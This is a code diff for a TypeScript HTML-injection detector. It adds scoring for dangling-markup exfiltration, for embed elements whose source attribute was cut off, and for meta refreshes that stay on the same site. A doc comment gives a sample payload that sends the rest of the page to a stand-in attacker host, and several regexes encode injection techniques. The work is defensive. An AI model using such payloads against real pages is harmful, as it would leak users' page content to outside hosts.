@@ -27,9 +27,13 @@ function scoreOfScatteredUrl({ attributes, start, end }: Tag, lower: string): nu
 /** Attributes of front-end frameworks that hold expressions. */
 const expressionAttribute = /^(?:(?:data-)?ng-|v-|x-|@|:|\(|\[)/
 
+/** An address elsewhere that the rest of the page becomes a part of: `<img src="//evil.example/?`. */
+const takesRest = /^\s{0,4}(?:https?:)?[/\\]{2}[^\s"'<>]{1,80}[?=]\s{0,4}(?:$|<)/
+
 /** An attribute that runs whatever element it is on. */
-function scoreOfAttribute({ name, value }: Attribute, tag: Tag): number {
+function scoreOfAttribute({ name, value, isOpen }: Attribute, tag: Tag): number {
   if (value === '') return 0
+  if (isOpen && takesRest.test(value)) return 0.7
   if (name === 'style') return scoreOfStyle(value)
   if (name === 'srcdoc' || name === 'datasrc' || name === 'dataformatas') return 0.9
   if (value.startsWith('&{')) return 0.9
@@ -41,9 +45,15 @@ function scoreOfAttribute({ name, value }: Attribute, tag: Tag): number {
 const attributeOf = ({ attributes }: Tag, name: string): string =>
   attributes.find((attribute) => attribute.name === name)?.value.trim() ?? ''
 
-/** Whether a tag has one of the attributes, be it without a value: what is cut off may follow. */
+/** Whether a tag has one of the attributes, be it without a value. */
 const hasAny = ({ attributes }: Tag, names: readonly string[]): boolean =>
   attributes.some(({ name }) => names.includes(name))
+
+/** Whether a tag has a source; one without a value counts where the text was cut off. */
+const hasSource = ({ attributes, end }: Tag, lower: string): boolean =>
+  attributes.some(
+    ({ name, value }) => sources.includes(name) && (value !== '' || end >= lower.length),
+  )
 
 /** A URL of another site, or of no site at all. */
 const isForeign = (url: string): boolean => /^\s*(?:[a-z][a-z0-9+.-]*:|[/\\]{2})/.test(url)
@@ -72,7 +82,7 @@ function scoreOfElement(tag: Tag, lower: string): number {
   if (name === 'script') return scoreOfScriptTag(tag, lower)
   if (tag.isClosing) return 0
   if (embedding.has(name))
-    return hasAny(tag, sources) || attributeOf(tag, 'type').includes('scriptlet') ? 0.9 : 0
+    return hasSource(tag, lower) || attributeOf(tag, 'type').includes('scriptlet') ? 0.9 : 0
   if (changing.has(name)) return scoreOfChange(tag)
   if (name === 'style')
     return attributeOf(tag, 'type').includes('script') ? 0.9 : scoreOfStyle(contentOf(tag, lower))
@@ -86,7 +96,7 @@ function scoreOfScriptTag(tag: Tag, lower: string): number {
   const before = lower.slice(Math.max(0, tag.start - 24), tag.start)
   const behind = lower.slice(tag.end, tag.end + 256)
   if (tag.isClosing) {
-    if (tag.start === 0 || /["'`;)}>\\]\s{0,4}$/.test(before)) return 0.7
+    if (tag.start === 0 || /["'`;)}>\\][ \t]{0,4}$/.test(before)) return 0.7
     return /^\s*(?:<|$)/.test(behind) && !endsInWord.test(before) ? 0.7 : 0.2
   }
   if (hasAny(tag, ['src', 'href', 'xlink:href', 'x:href'])) return 0.95
@@ -117,9 +127,14 @@ function scoreOfHeadElement(name: string, tag: Tag): number {
   return relation.includes('stylesheet') && isForeign(href) ? 0.7 : 0
 }
 
+/** To another page of the site, or to the same again. */
+const leadsWithin =
+  /^\d{1,5}\s{0,4}(?:;\s{0,4}url\s{0,4}=\s{0,4}["']?(?!\/\/)[\w./#?=&%-]{1,200}["']?\s{0,4})?$/
+
 function scoreOfMeta(tag: Tag): number {
   const directive = attributeOf(tag, 'http-equiv')
-  if (directive === 'refresh' || directive === 'link' || directive === 'set-cookie') return 0.85
+  if (directive === 'refresh') return leadsWithin.test(attributeOf(tag, 'content')) ? 0 : 0.85
+  if (directive === 'link' || directive === 'set-cookie') return 0.85
   return /utf-?7/.test(attributeOf(tag, 'content') + attributeOf(tag, 'charset')) ? 0.9 : 0
 }
 
